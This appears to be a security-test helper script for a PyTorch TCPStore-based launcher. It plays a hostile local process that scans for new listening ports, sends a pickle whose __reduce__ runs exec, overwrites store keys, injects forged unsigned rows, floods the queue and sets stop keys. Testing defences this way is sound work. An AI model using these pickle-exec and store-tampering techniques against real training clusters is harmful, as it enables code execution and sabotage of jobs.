"""A hostile process on the same machine as a launch (run as a script by test_security.py).

It knows no secret. While the launch runs it finds every TCP port that started listening after
it did (from /proc/net/tcp, as any user can), and on each: writes a pickle to the raw socket,
connects as a ``TCPStore`` client, overwrites every key it can list with a pickle that would
create the marker file if anything unpickled it, pushes such pickles and forged unsigned rows
into mpnb's row queue, pushes and pops junk there (the queue empties under the reader's feet),
and sets the stop key. It writes what it did to ``report.json``.

Usage: python attacker.py FOLDER MARKER [--rows-only]
(``--rows-only``: push rows and stop keys, but leave the stores' other keys and the queue's rows alone)
(``FOLDER/ready`` appears once it has its baseline; it stops when ``FOLDER/stop`` appears.)
"""

from __future__ import annotations

import datetime
import json
import os
import pickle
import socket
import sys
import threading
import time


class Payload:
    """Unpickling this creates the marker file: the proof that code ran."""

    def __init__(self, marker: str) -> None:
        self.marker = marker

    def __reduce__(self):
        return (exec, (f"open({self.marker!r}, 'w').write('code ran')",))


def listening_ports() -> set[tuple[str, int]]:
    """Every listening TCP socket on the machine, as (address in hex, port)."""
    found = set()
    for table in ("/proc/net/tcp", "/proc/net/tcp6"):
        try:
            with open(table) as file:
                next(file)
                for line in file:
                    fields = line.split()
                    address, port = fields[1].rsplit(":", 1)
                    if fields[3] == "0A":  # LISTEN
                        found.add((address, int(port, 16)))
        except OSError:
            pass
    return found


def raw_attack(port: int, evil: bytes) -> None:
    try:
        with socket.create_connection(("127.0.0.1", port), timeout=1) as connection:
            connection.sendall(evil)
    except OSError:
        pass


def forged_rows() -> list[bytes]:
    """Rows for a rank that does not exist, and rows for rank 0 with made-up losses, unsigned."""
    made_up = {"step": [1, 2, 3], "loss": [123.0, 456.0, 789.0]}
    return [
        b"\0" * 32 + json.dumps({"rank": rank, "fit": 0, "seq": seq, "columns": made_up}).encode()
        for rank in (0, 5)
        for seq in (0, 1, 2)
    ]


def store_attack(port: int, evil: bytes, report: dict, rows_only: bool = False) -> bool:
    import torch.distributed as dist

    try:
        store = dist.TCPStore(
            "127.0.0.1", port, is_master=False, timeout=datetime.timedelta(seconds=2)
        )
    except Exception:
        return False
    report["stores"][str(port)] = sorted(set(report["stores"].get(str(port), [])))
    try:
        keys = [] if rows_only else store.list_keys()
    except Exception:
        keys = []
    for key in keys:
        try:
            store.set(key, evil)
            report["overwritten"] += 1
            report["stores"][str(port)] = sorted({*report["stores"][str(port)], key})
        except Exception:
            pass
    for message in [evil, *forged_rows()]:
        try:
            store.queue_push("mpnb/rows", message)
            report["pushed"] += 1
        except Exception:
            pass
    # junk in and out again: the queue empties under the launcher's reads
    for _ in range(0 if rows_only else 20):
        for message in (b"junk",) * 25:
            try:
                store.queue_push("mpnb/rows", message)
            except Exception:
                pass
        for _ in range(25):
            try:
                store.queue_pop("mpnb/rows", block=False)
                report["popped"] += 1
            except Exception:
                pass
    for key in ("mpnb/stop", "stop", "mpnb/rows"):
        try:
            store.set(key, b"1")
            report["stops"] += 1
        except Exception:
            pass
    return True


def main(folder: str, marker: str, rows_only: bool) -> None:
    evil = pickle.dumps(Payload(marker))
    baseline = listening_ports()
    report: dict = {
        "uid": os.getuid(),
        "listeners": [],
        "stores": {},
        "overwritten": 0,
        "pushed": 0,
        "popped": 0,
        "stops": 0,
    }
    stop = os.path.join(folder, "stop")

    def attack(port: int) -> None:
        """One port, in a thread of its own (a port that is no store costs seconds of timeouts)."""
        raw_attack(port, evil)
        while store_attack(port, evil, report, rows_only) and not os.path.exists(stop):
            time.sleep(0.05)  # a store: again and again, for as long as the launch runs

    open(os.path.join(folder, "ready"), "w").close()
    threads = []
    while not os.path.exists(stop):
        for address, port in listening_ports() - baseline:
            if [address, port] not in report["listeners"]:
                report["listeners"].append([address, port])
                threads.append(threading.Thread(target=attack, args=(port,), daemon=True))
                threads[-1].start()
        time.sleep(0.02)
    for thread in threads:
        thread.join(timeout=10)
    with open(os.path.join(folder, "report.json"), "w") as file:
        json.dump(report, file)
    os._exit(
        0
    )  # not torch's teardown of stores whose servers are gone, with threads maybe still in them


if __name__ == "__main__":
    main(sys.argv[1], sys.argv[2], "--rows-only" in sys.argv[3:])
